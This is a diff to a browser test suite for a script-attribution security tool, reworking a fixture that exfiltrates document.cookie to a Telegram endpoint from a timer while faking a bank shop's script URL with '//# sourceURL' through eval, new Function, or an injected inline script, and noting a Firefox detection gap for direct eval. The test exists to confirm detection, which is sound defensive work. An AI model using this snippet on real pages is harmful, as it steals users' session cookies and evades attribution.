@@ -32,16 +32,20 @@ var wait = setInterval(function () {
 /**
  * A helper that passes its code off as the shop's: each piece ends with `//# sourceURL=` naming the shop's
  * own script, and sends the cookie from a timer, where no frame of the helper's own file is left on the
- * stack. By eval, by `new Function`, and by an inserted inline script.
+ * stack. By eval, by `new Function`, and by an inserted inline script (`routes` picks which).
  */
 const CLAIMED = 'https://kazcoins.nationalbank.kz/assets/app.js';
-const SOURCE_URL_SPOOF = `(() => {
+type SpoofRoute = 'eval' | 'function' | 'inline';
+const sourceUrlSpoof = (routes: readonly SpoofRoute[]): string => `(() => {
   const send = (via) => "setTimeout(function () { fetch('${TELEGRAM}/" + via + "', { method: 'POST', mode: 'no-cors', body: document.cookie || 'sid=?' }); }, 40);\\n//# sourceURL=${CLAIMED}";
-  eval(send('eval'));
-  new Function(send('function'))();
-  const inline = document.createElement('script');
-  inline.textContent = send('inline');
-  document.head.appendChild(inline);
+  const routes = ${JSON.stringify(routes)};
+  if (routes.includes('eval')) eval(send('eval'));
+  if (routes.includes('function')) new Function(send('function'))();
+  if (routes.includes('inline')) {
+    const inline = document.createElement('script');
+    inline.textContent = send('inline');
+    document.head.appendChild(inline);
+  }
 })();`;
 
 const go = (tab: Page): Promise<void> => tab.evaluate(() => void ((window as { __go?: boolean }).__go = true));
@@ -88,18 +92,24 @@ describeEachBrowser('attribution through timer chains', (context) => {
     expect(verdict?.finding.actor).toEqual({ type: 'script', url: `https://${HELPER_CDN}/timer-cart.js` });
   });
 
-  // Firefox prints the claimed URL as an ordinary frame and has no call sites to tell: an open gap there
-  // (docs/security.md), so this case runs in Chromium only.
-  if (browserName === 'chromium')
-    it("does not take a helper's code for the shop's when it claims a shop script's URL (//# sourceURL) and acts from a timer", async ({
-      task,
-    }) => {
-      context.shop.setFixture('/source-url-spoof.js', SOURCE_URL_SPOOF, { host: HELPER_CDN, contentType: 'text/javascript' });
-      context.shop.setFixture('/kz/source-url-spoof', page(`https://${HELPER_CDN}/source-url-spoof.js`));
-      const saq = await browser();
-      const { tabId } = await visit(saq, '/kz/source-url-spoof');
-      const found: Record<string, Awaited<ReturnType<typeof maybeVerdict>>> = {};
-      for (const via of ['eval', 'function', 'inline']) {
+  // Chromium writes its stacks from V8's call sites, which tell a claimed URL from a script's own: every route.
+  // Firefox prints the claimed URL as an ordinary frame: Saq distrusts a URL once it sees code other than the
+  // shop's claim it being made (new Function, an inline script); a direct eval is not seen being made — an open
+  // gap there (docs/security.md), so Firefox runs the two routes it can see, each on its own page.
+  const spoofRoutes: readonly SpoofRoute[] = browserName === 'chromium' ? ['eval', 'function', 'inline'] : ['function', 'inline'];
+  it(`does not take a helper's code for the shop's when it claims a shop script's URL (//# sourceURL) and acts from a timer (${spoofRoutes.join(', ')})`, async ({
+    task,
+  }) => {
+    const saq = await browser();
+    const found: Record<string, Awaited<ReturnType<typeof maybeVerdict>>> = {};
+    // Chromium: all routes on one page. Firefox: one page per route, so one route's claim cannot cover another's.
+    const pages = browserName === 'chromium' ? [spoofRoutes] : spoofRoutes.map((route) => [route]);
+    for (const routes of pages) {
+      const name = `source-url-spoof-${routes.join('-')}`;
+      context.shop.setFixture(`/${name}.js`, sourceUrlSpoof(routes), { host: HELPER_CDN, contentType: 'text/javascript' });
+      context.shop.setFixture(`/kz/${name}`, page(`https://${HELPER_CDN}/${name}.js`));
+      const { tabId } = await visit(saq, `/kz/${name}`);
+      for (const via of routes) {
         found[via] = await maybeVerdict(saq, tabId, 'SAQ-EXF-002', (v) => v.finding.evidence.url === `${TELEGRAM}/${via}`);
         recordCase(task, {
           behaviour: 'exfiltration',
@@ -110,9 +120,10 @@ describeEachBrowser('attribution through timer chains', (context) => {
           browser: browserName,
         });
       }
-      for (const via of ['eval', 'function', 'inline']) {
-        expect(found[via]?.severity, via).toBe('critical');
-        expect(found[via]?.finding.actor.type, via).not.toBe('page');
-      }
-    });
+    }
+    for (const via of spoofRoutes) {
+      expect(found[via]?.severity, via).toBe('critical');
+      expect(found[via]?.finding.actor.type, via).not.toBe('page');
+    }
+  });
 });
